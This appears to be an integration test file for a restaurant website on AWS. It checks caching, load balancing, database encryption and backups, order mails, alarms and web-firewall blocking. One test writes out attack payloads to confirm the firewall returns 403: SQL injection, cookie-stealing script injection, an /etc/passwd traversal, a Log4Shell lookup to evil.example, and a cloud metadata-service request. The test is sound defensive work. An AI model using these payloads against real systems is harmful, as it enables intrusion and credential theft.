import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { CloudFrontClient, ListDistributionsCommand } from '@aws-sdk/client-cloudfront';
import {
  CloudWatchClient,
  DescribeAlarmsCommand,
  GetDashboardCommand,
  GetMetricStatisticsCommand,
} from '@aws-sdk/client-cloudwatch';
import { DescribeInstancesCommand, EC2Client } from '@aws-sdk/client-ec2';
import {
  DescribeTargetGroupsCommand,
  DescribeTargetHealthCommand,
  ElasticLoadBalancingV2Client,
} from '@aws-sdk/client-elastic-load-balancing-v2';
import { DescribeDBClustersCommand, DescribeDBInstancesCommand, RDSClient } from '@aws-sdk/client-rds';
import { eventually } from './system-fixture.ts';
import { customer, lacking, type Restaurant, startRestaurant } from './web-classic.fixture.ts';

describe('web-classic', { skip: lacking }, () => {
  let restaurant: Restaurant;
  before(async () => {
    restaurant = await startRestaurant();
  });
  after(() => restaurant?.stop());

  async function targetGroups() {
    const elb = restaurant.client(ElasticLoadBalancingV2Client);
    const { TargetGroups = [] } = await elb.send(new DescribeTargetGroupsCommand({}));
    return Promise.all(
      TargetGroups.map(async ({ TargetGroupArn, Port }) => {
        const { TargetHealthDescriptions = [] } = await elb.send(new DescribeTargetHealthCommand({ TargetGroupArn }));
        return { Port, targets: TargetHealthDescriptions };
      }),
    );
  }

  test('W-B1 W-A1 the site’s name leads to the distribution, and what the edge has ends there', async () => {
    const { DistributionList } = await restaurant.client(CloudFrontClient).send(new ListDistributionsCommand({}));
    const [distribution] = DistributionList?.Items ?? [];
    assert.deepEqual(
      await restaurant.addresses(restaurant.value('SiteDomain')),
      await restaurant.addresses(distribution?.DomainName ?? ''),
    );
    const first = await restaurant.followed('/');
    assert.equal(first.answer.status, 200);
    assert.match(first.answer.text, /<title>/);
    assert.deepEqual(first.services.slice(1), ['route53', 'cloudfront', 'wafv2', 's3']);
    const again = await restaurant.followed('/');
    assert.match(again.answer.headers['x-cache'] ?? '', /^Hit/);
    assert.ok(!again.services.includes('s3'));
  });

  test('W-A2 W-B2 W-B4 W-B5 a miss goes on through firewall and load balancer to an instance of either zone', async () => {
    const { answer, services } = await restaurant.followed('/api/reservations/hours?one');
    assert.equal(answer.status, 200);
    assert.deepEqual(services.slice(1), ['route53', 'cloudfront', 'wafv2', 'elbv2']);
    const groups = await eventually(
      'two healthy instances in each target group',
      async () => {
        const found = await targetGroups();
        const healthy = found.every(
          ({ targets }) =>
            targets.length === 2 && targets.every(({ TargetHealth }) => TargetHealth?.State === 'healthy'),
        );
        return healthy ? found : undefined;
      },
      60_000,
    );
    assert.deepEqual(groups.map(({ Port }) => Port).sort(), [8081, 8082, 8083]);
    const InstanceIds = groups[0]?.targets.map(({ Target }) => Target?.Id ?? '');
    const { Reservations = [] } = await restaurant
      .client(EC2Client)
      .send(new DescribeInstancesCommand({ InstanceIds }));
    const zones = Reservations.flatMap(({ Instances = [] }) =>
      Instances.map(({ Placement }) => Placement?.AvailabilityZone),
    );
    assert.deepEqual(zones.sort(), ['us-east-1a', 'us-east-1b']);
  });

  test('W-C4 the menu is asked of an instance once, and then answered at the edge', async () => {
    const paths = await Promise.all(
      ['/api/menu?guest', '/images/oysters.svg'].map(async (path) => {
        await restaurant.visit(path);
        const [one, two] = [await restaurant.followed(path), await restaurant.followed(path)];
        return { path, services: [...one.services, ...two.services], cache: two.answer.headers['x-cache'] };
      }),
    );
    for (const { path, services, cache } of paths) {
      assert.match(cache ?? '', /^Hit/, path);
      assert.ok(!services.includes('elbv2') && !services.includes('s3'), path);
    }
  });

  test('W-A3 W-B6 an order is kept in Aurora, whose writer and reader are in two zones, encrypted, with backups', async () => {
    const placed = await restaurant.order();
    assert.equal(placed.status, 202, placed.text);
    const { href } = placed.json<{ href: string }>();
    const read = await restaurant.visit(href);
    assert.partialDeepStrictEqual(read.json(), { total: 2900, currency: 'GBP' });
    const rds = restaurant.client(RDSClient);
    const DBClusterIdentifier = restaurant.value('ClusterIdentifier');
    const { DBClusters = [] } = await rds.send(new DescribeDBClustersCommand({ DBClusterIdentifier }));
    assert.partialDeepStrictEqual(DBClusters[0], {
      MultiAZ: true,
      StorageEncrypted: true,
      BackupRetentionPeriod: 7,
      Endpoint: restaurant.value('ClusterEndpoint'),
    });
    const { DBInstances = [] } = await rds.send(new DescribeDBInstancesCommand({}));
    assert.deepEqual(DBInstances.map(({ AvailabilityZone }) => AvailabilityZone).sort(), ['us-east-1a', 'us-east-1b']);
    assert.ok(DBInstances.every(({ PubliclyAccessible }) => PubliclyAccessible === false));
  });

  test('W-A4 W-B7 W-B8 the admin gets a mail for an order', async () => {
    assert.equal((await restaurant.order()).status, 202);
    const mail = await restaurant.mailTo(
      restaurant.value('AdminEmail'),
      /^New order: 2 dishes for Ada Fisher, £29\.00$/,
    );
    assert.match(mail.html, /Ada Fisher/);
    assert.match(mail.text, /ada@example\.com/);
  });

  test('of two guests who want the last table at once, one gets it', async () => {
    const wanted = { day: dayFrom(restaurant.clock.now(), 7), time: '19:00', party: 8, guest: customer };
    const book = () => restaurant.visit('/api/reservations', { method: 'POST', body: wanted });
    const answers = await Promise.all([book(), book()]);
    assert.deepEqual(answers.map(({ status }) => status).sort(), [201, 409]);
  });

  test('W-C3 W-B3 six kinds of attack are blocked and counted, and a guest’s day is not', async () => {
    const attacks: Record<string, () => ReturnType<Restaurant['visit']>> = {
      'SQL injection': () =>
        restaurant.visit(`/api/orders/x?id=${encodeURIComponent("1' OR '1'='1' UNION SELECT password FROM users--")}`),
      'cross-site scripting': () =>
        restaurant.visit(`/?q=${encodeURIComponent('<script>alert(document.cookie)</script>')}`),
      'path traversal': () =>
        restaurant.visit(`/api/content/page?file=${encodeURIComponent('../../../../etc/passwd')}`),
      'a bad bot': () => restaurant.visit('/', { headers: { 'user-agent': 'nessus' } }),
      Log4Shell: () => restaurant.visit('/', { headers: { 'x-api-version': '${jndi:ldap://evil.example/a}' } }),
      'reading the metadata service': () =>
        restaurant.visit(`/?url=${encodeURIComponent('http://169.254.169.254/latest/meta-data/')}`),
    };
    for (const [kind, attack] of Object.entries(attacks)) assert.equal((await attack()).status, 403, kind);
    const day = [
      () => restaurant.visit('/'),
      () => restaurant.visit('/menu.js'),
      () => restaurant.visit('/api/menu'),
      () => restaurant.visit('/reserve.html'),
      () => restaurant.visit(`/api/reservations/availability?day=${dayFrom(restaurant.clock.now(), 3)}&party=4`),
      () =>
        restaurant.visit('/api/orders', {
          method: 'POST',
          body: {
            customer: { ...customer, name: "Siobhán O'Hara & Sons" },
            items: [{ sku: 'chowder', quantity: 1 }],
            note: 'No <salt>, please; select the smaller one — thanks!',
          },
        }),
      () => restaurant.visit('/admin/sign-in'),
    ];
    for (const visit of day) assert.notEqual((await visit()).status, 403, String(visit));
    const flood = await Promise.all(
      Array.from({ length: 2100 }, () =>
        restaurant.visit('/robots.txt', { headers: { 'x-forwarded-for': '203.0.113.9' } }),
      ),
    );
    assert.ok(
      flood.some(({ status }) => status === 429),
      'a flood',
    );
    await restaurant.clock.wind(6 * 60_000);
    const { Datapoints = [] } = await restaurant.client(CloudWatchClient).send(
      new GetMetricStatisticsCommand({
        Namespace: 'AWS/WAFV2',
        MetricName: 'BlockedRequests',
        Dimensions: [
          { Name: 'WebACL', Value: 'web-classic-EdgeFirewall' },
          { Name: 'Rule', Value: 'ALL' },
        ],
        StartTime: new Date(restaurant.clock.now() - 3_600_000),
        EndTime: new Date(restaurant.clock.now()),
        Period: 3600,
        Statistics: ['Sum'],
      }),
    );
    const blocked = Datapoints.reduce((sum, { Sum = 0 }) => sum + Sum, 0);
    assert.ok(blocked >= Object.keys(attacks).length, `${blocked} blocked requests were counted`);
  });

  test('W-B9 alarms watch and a dashboard shows what was measured', async () => {
    const cloudwatch = restaurant.client(CloudWatchClient);
    const { MetricAlarms = [] } = await cloudwatch.send(new DescribeAlarmsCommand({}));
    const ofStack = MetricAlarms.filter(({ AlarmActions = [] }) => AlarmActions.some((arn) => arn.includes(':sns:')));
    assert.ok(ofStack.length >= 9, `${ofStack.length} alarms`);
    const alarmed = ofStack.filter(({ StateValue }) => StateValue === 'ALARM').map(({ AlarmName }) => AlarmName);
    assert.deepEqual(alarmed, []);
    const { DashboardBody = '{}' } = await cloudwatch.send(new GetDashboardCommand({ DashboardName: 'web-classic' }));
    assert.equal(JSON.parse(DashboardBody).widgets.length, 9);
  });

  test('W-A5 W-B7 W-B9 the end of the month brings the sales report by mail, from what Aurora holds', async () => {
    const { orders } = await sold(restaurant);
    await restaurant.clock.wind(2 * 86_400_000 + 7 * 3_600_000);
    const mail = await restaurant.mailTo(restaurant.value('AdminEmail'), /^Sales/);
    assert.match(mail.html, new RegExp(`\\b${orders}\\b`));
    assert.ok(
      mail.attachments.some((name) => name.endsWith('.csv')),
      mail.attachments.join(),
    );
  });
});

/** `yyyy-mm-dd`, some days from now. */
function dayFrom(nowMs: number, days: number): string {
  return new Date(nowMs + days * 86_400_000).toISOString().slice(0, 10);
}

/** One more order; how many there are by now the report must say. */
async function sold(restaurant: Restaurant): Promise<{ orders: number }> {
  assert.equal((await restaurant.order()).status, 202);
  return { orders: 4 };
}
